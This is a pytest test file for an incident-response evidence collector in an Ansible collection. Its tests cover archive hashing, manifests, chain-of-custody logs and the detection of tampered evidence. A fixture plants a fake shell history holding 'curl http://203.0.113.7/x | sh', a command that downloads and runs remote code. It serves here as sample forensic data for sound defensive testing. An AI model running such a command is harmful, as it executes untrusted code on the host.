"""evidence: real collection on this machine (its /proc, its tools), real archives, real tampering."""

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile

import pytest

from ansible_collections.autopilotcx.maintenance.plugins.module_utils.incidents import evidence as ev
from ansible_collections.autopilotcx.maintenance.plugins.module_utils.core.errors import MaintenanceError


@pytest.fixture
def collected(tmp_path):
    logs = tmp_path / 'logs'
    logs.mkdir()
    (logs / 'auth.log').write_text('Nov 24 05:00:01 web1 sshd[1]: Failed password for root from 203.0.113.7\n')
    (logs / 'big.log').write_bytes(b'x' * 5000)
    home = tmp_path / 'home' / 'eve'
    home.mkdir(parents=True)
    (home / '.bash_history').write_text('curl http://203.0.113.7/x | sh\n')
    result = ev.collect_evidence(str(tmp_path / 'out'), 'INC-9', log_paths=[str(logs)],
                                 history_patterns=[str(tmp_path / 'home' / '*' / '.*history')], max_file_bytes=4096,
                                 host='web1', reason='test', stamp='20261124T060000Z')
    return result


def members(archive):
    with tarfile.open(archive, 'r:gz') as tar:
        return dict((m.name, tar.extractfile(m).read()) for m in tar.getmembers() if m.isfile())


def repack(archive, change):
    """Rewrite the archive with ``change(files)`` applied: what an attacker editing the evidence would do."""
    files = members(archive)
    change(files)
    with tarfile.open(archive, 'w:gz') as tar:
        for name, data in sorted(files.items()):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def test_archive_manifest_and_custody(collected):
    assert os.path.basename(collected['archive']) == 'INC-9-web1-20261124T060000Z.tar.gz'
    with open(collected['archive'], 'rb') as handle:
        assert hashlib.sha256(handle.read()).hexdigest() == collected['sha256']
    files = members(collected['archive'])
    top = 'INC-9-web1-20261124T060000Z/'
    assert top + ev.MANIFEST in files and top + ev.COLLECTION_LOG in files
    manifest = ev.read_manifest(files[top + ev.MANIFEST].decode())
    assert set(manifest) == set(n[len(top):] for n in files) - {ev.MANIFEST}
    assert any(n.endswith('auth.log') for n in manifest) and any('bash_history' in n for n in manifest)
    assert 'processes/proc_processes.json' in manifest and 'executable_hashes/running_executables.json' in manifest
    custody = ev.custody_events(collected['custody_log'])
    assert custody[0]['event'] == 'collected' and custody[0]['sha256'] == collected['sha256']
    assert custody[0]['on'] == 'web1' and custody[0]['by'] and custody[0]['at'].endswith('Z')
    assert ev.verify_archive(collected['archive'], custody_log=collected['custody_log'])['ok']


def test_volatile_data_comes_first(collected):
    log = json.loads(members(collected['archive'])['INC-9-web1-20261124T060000Z/' + ev.COLLECTION_LOG])
    order = [s['category'] for s in log['steps']]
    first = dict((c, order.index(c)) for c in set(order))
    assert first['processes'] < first['network'] < first['users'] < first['open_files'] < first['kernel_modules']
    assert first['kernel_modules'] < first['logs'] < first['shell_histories'] < first['packages']
    assert first['packages'] < first['executable_hashes']


def test_large_files_are_hashed_not_packed(collected):
    log = json.loads(members(collected['archive'])['INC-9-web1-20261124T060000Z/' + ev.COLLECTION_LOG])
    big = [s for s in log['steps'] if str(s.get('item', '')).endswith('big.log')][0]
    assert big['skipped'] == 'larger than max_file_bytes'
    assert big['sha256'] == hashlib.sha256(b'x' * 5000).hexdigest()


def test_running_executables_are_hashed(collected):
    data = json.loads(members(collected['archive'])['INC-9-web1-20261124T060000Z/executable_hashes/running_executables.json'])
    me = os.path.realpath(sys.executable)
    with open(me, 'rb') as handle:
        expected = hashlib.sha256(handle.read()).hexdigest()
    assert any(e['path'] == me and e.get('sha256') == expected for e in data)


def test_manifest_checks_by_hand_with_sha256sum(collected, tmp_path):
    with tarfile.open(collected['archive']) as tar:
        tar.extractall(str(tmp_path / 'x'))
    subprocess.run(['sha256sum', '-c', '--quiet', os.path.basename(collected['checksum_file'])], check=True,
                   cwd=os.path.dirname(collected['archive']))
    subprocess.run(['sha256sum', '-c', '--quiet', ev.MANIFEST], check=True,
                   cwd=str(tmp_path / 'x' / 'INC-9-web1-20261124T060000Z'))


def test_a_changed_file_fails_verification(collected):
    def change(files):
        name = [n for n in files if n.endswith('auth.log')][0]
        files[name] = files[name].replace(b'203.0.113.7', b'198.51.100.1')
    repack(collected['archive'], change)
    result = ev.verify_archive(collected['archive'], custody_log=collected['custody_log'])
    assert not result['ok']
    assert any('auth.log' in p and 'does not match the manifest' in p for p in result['problems'])
    assert any('archive hash' in p for p in result['problems'])


def test_a_forged_manifest_still_fails_on_the_archive_hash(collected):
    def change(files):
        name = [n for n in files if n.endswith('auth.log')][0]
        files[name] = b'nothing happened\n'
        manifest = [n for n in files if n.endswith(ev.MANIFEST)][0]
        lines = [line for line in files[manifest].decode().splitlines() if not line.endswith('auth.log')]
        lines.append('%s  logs/%s' % (hashlib.sha256(b'nothing happened\n').hexdigest(), os.path.basename(name)))
        files[manifest] = ('\n'.join(lines) + '\n').encode()
    repack(collected['archive'], change)
    result = ev.verify_archive(collected['archive'], custody_log=collected['custody_log'])
    assert not result['ok'] and all('manifest' not in p for p in result['problems'])
    assert any('does not match the custody log' in p for p in result['problems'])


@pytest.mark.parametrize('kind', ['added', 'removed'])
def test_added_or_removed_files_fail(collected, kind):
    def change(files):
        if kind == 'added':
            files['INC-9-web1-20261124T060000Z/logs/planted.log'] = b'x'
        else:
            del files[[n for n in files if n.endswith('auth.log')][0]]
    repack(collected['archive'], change)
    # with the matching archive hash given, only the manifest comparison can catch it
    with open(collected['archive'], 'rb') as handle:
        digest = hashlib.sha256(handle.read()).hexdigest()
    os.unlink(collected['checksum_file'])
    result = ev.verify_archive(collected['archive'], expected_sha256=digest)
    assert not result['ok']
    assert any(('not in the manifest' if kind == 'added' else 'missing from the archive') in p for p in result['problems'])


def test_corrupt_bytes_fail(collected):
    with open(collected['archive'], 'r+b') as handle:
        handle.seek(200)
        handle.write(b'\0\0\0\0')
    result = ev.verify_archive(collected['archive'], custody_log=collected['custody_log'])
    assert not result['ok']


def test_verify_result_records_custody_and_check_mode_does_not(collected):
    params = {'archive': collected['archive'], 'expected_sha256': collected['sha256'], 'custody_log': None,
              'record': True, 'event': 'received'}
    result, check, changed = ev.verify_result(params, check_mode=True)
    assert check['status'] == 'ok' and not changed and len(result['custody']) == 1
    result, check, changed = ev.verify_result(params)
    assert check['name'] == 'incident.evidence_integrity' and changed
    assert [e['event'] for e in result['custody']] == ['collected', 'received']
    repack(collected['archive'], lambda files: files.update({'INC-9-web1-20261124T060000Z/x': b'1'}))
    result, check, _changed = ev.verify_result(params)
    assert check['status'] == 'critical' and result['custody'][-1]['event'] == 'verification_failed'


def test_check_mode_writes_nothing(tmp_path):
    params = {'incident_id': 'INC-1', 'dest': str(tmp_path / 'out'), 'categories': list(ev.CATEGORIES),
              'log_paths': [str(tmp_path)], 'history_patterns': [], 'extra_paths': [], 'max_file_bytes': 1000,
              'reason': ''}
    result, check = ev.collect_result(params, check_mode=True)
    assert not (tmp_path / 'out').exists()
    assert [p['category'] for p in result['plan']] == list(ev.CATEGORIES)
    assert check['name'] == 'incident.evidence' and 'would preserve' in check['reason']


@pytest.mark.parametrize('bad', ['', '../x', '.hidden'])
def test_bad_incident_id(tmp_path, bad):
    with pytest.raises(MaintenanceError, match='incident_id'):
        ev.collect_evidence(str(tmp_path), bad, categories=['kernel_modules'])


def test_missing_archive_is_a_problem_not_a_traceback(tmp_path):
    result = ev.verify_archive(str(tmp_path / 'nope.tar.gz'))
    assert not result['ok'] and 'does not exist' in result['problems'][0]


def _verify_params(collected, custody_log):
    return {'archive': collected['archive'], 'expected_sha256': collected['sha256'], 'custody_log': custody_log,
            'record': True, 'event': 'received'}


def test_a_custody_log_that_is_not_json_lines_is_a_problem_not_a_traceback(collected, tmp_path):
    """Found by the fuzz test: custody_log naming a text file ended in JSONDecodeError."""
    text = tmp_path / 'notes.txt'
    text.write_text('some text\n')
    result, check, _changed = ev.verify_result(_verify_params(collected, str(text)), check_mode=True)
    assert check['status'] == 'critical'
    assert any('line 1 of the custody log %s is not JSON' % text in p for p in result['problems'])


@pytest.mark.parametrize('where', ['directory', 'missing parent'])
def test_a_custody_log_that_cannot_be_written_fails_with_its_name(collected, tmp_path, where):
    """Found by the fuzz test: IsADirectoryError / FileNotFoundError from appending the custody event."""
    path = tmp_path / 'dir' if where == 'directory' else tmp_path / 'missing' / 'custody.jsonl'
    if where == 'directory':
        path.mkdir()
    with pytest.raises(MaintenanceError, match='cannot append to the custody log %s' % path):
        ev.verify_result(_verify_params(collected, str(path)))


@pytest.mark.parametrize('where', ['a file', 'under a file'])
def test_a_dest_that_cannot_be_a_directory_fails_with_its_name(tmp_path, where):
    """Found by the fuzz test: dest naming an existing file ended in a FileExistsError traceback."""
    (tmp_path / 'file.txt').write_text('keep me\n')
    dest = tmp_path / 'file.txt' if where == 'a file' else tmp_path / 'file.txt' / 'evidence'
    with pytest.raises(MaintenanceError, match='cannot create the evidence directory %s' % dest):
        ev.collect_evidence(str(dest), 'INC-1', categories=['kernel_modules'])
    assert (tmp_path / 'file.txt').read_text() == 'keep me\n'
